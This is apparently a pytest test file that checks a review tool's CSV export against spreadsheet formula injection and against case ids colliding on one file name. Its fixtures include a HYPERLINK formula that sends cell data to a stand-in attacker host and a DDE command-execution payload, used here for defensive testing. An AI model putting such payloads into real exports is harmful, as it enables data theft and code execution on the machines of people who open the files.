"""Exports are safe to open and complete: CSV never hands a spreadsheet a formula (model output
such as =HYPERLINK(...) in a value or a case id is written as text, and still reads back and
verifies as the same string), and no two cases share a file name."""

import csv
import io

import pytest

from reviews.formats.reference import (
    ApprovedReference,
    decode_csv_value,
    dump_reference_csv,
    encode_csv_value,
    iter_reference_csv,
)
from reviews.models import Role
from reviews.services.approval.approve import approval_record
from tests.builders import approved_reference, export_all, verify
from tests.factories import PASSWORD, member

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    " =1",
]
RISKY = tuple("=+-@\t\r")


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_value_is_written_as_text_and_reads_back(text):
    cell = encode_csv_value(text)
    assert not cell.lstrip(" ").startswith(RISKY)
    assert decode_csv_value(cell) == text


def test_formula_case_ids_and_values_round_trip_through_the_csv():
    ref = ApprovedReference.model_validate(
        approved_reference(
            case_id="=cmd|' /C calc'!A0",
            approval=None,
            rows=[{"path": f"$.f{i}", "expected_value": text} for i, text in enumerate(FORMULAS)],
        )
    )
    data = dump_reference_csv([ref])
    assert not any(cell.lstrip(" ").startswith(RISKY) for cell in _cells(data))
    rows = list(iter_reference_csv(io.BytesIO(data), file="refs.csv"))
    assert {r.case_id for r in rows} == {"=cmd|' /C calc'!A0"}
    assert [r.expected_value for r in rows] == FORMULAS


def test_an_approved_formula_exports_as_text_and_still_verifies(
    project, review_item, rate, tmp_path
):
    item = review_item(project, external_id="=case-1")
    for n in (1, 2):
        rate(member(project, Role.RATER, username=f"r{n}"), item, {"$.total": FORMULAS[0]})
    approval_record(
        actor=member(project, Role.APPROVER), item=item, password=PASSWORD, confirmed=True
    )
    folder = export_all(project, tmp_path)
    csv_file = folder / f"{project.slug}-ground-truth.csv"
    cells = _cells(csv_file.read_bytes())
    assert FORMULAS[0] not in cells and not any(c.startswith(RISKY) for c in cells)
    ok, out = verify(csv_file)
    assert ok and "OK   =case-1" in out, out


def test_case_ids_that_clean_to_one_name_export_to_two_files(project, review_item, rate, tmp_path):
    """`a/b` and `a_b` used to share `a_b.reference.json`: one approved case vanished."""
    approver = member(project, Role.APPROVER)
    for n, case in enumerate(("a/b", "a_b")):
        item = review_item(project, external_id=case)
        for r in (1, 2):
            rate(member(project, Role.RATER, username=f"r{n}{r}"), item, {"$.total": "12"})
        approval_record(actor=approver, item=item, password=PASSWORD, confirmed=True)
    folder = export_all(project, tmp_path)
    references = sorted(p.name for p in folder.glob("*.reference.json"))
    assert len(references) == 2 and "a_b.reference.json" in references
    ok, out = verify(folder)
    assert ok and "OK   a/b" in out and "OK   a_b" in out, out
